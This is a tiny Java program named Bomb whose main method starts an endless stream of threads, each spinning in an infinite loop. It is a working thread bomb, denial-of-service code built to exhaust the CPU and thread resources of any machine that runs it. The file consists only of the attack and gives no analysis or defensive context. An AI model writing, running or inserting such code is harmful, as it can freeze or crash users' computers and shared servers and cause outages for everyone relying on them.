class Bomb { public static void main(String[] a) { while (true) new Thread(() -> { while (true) { } }).start(); } }
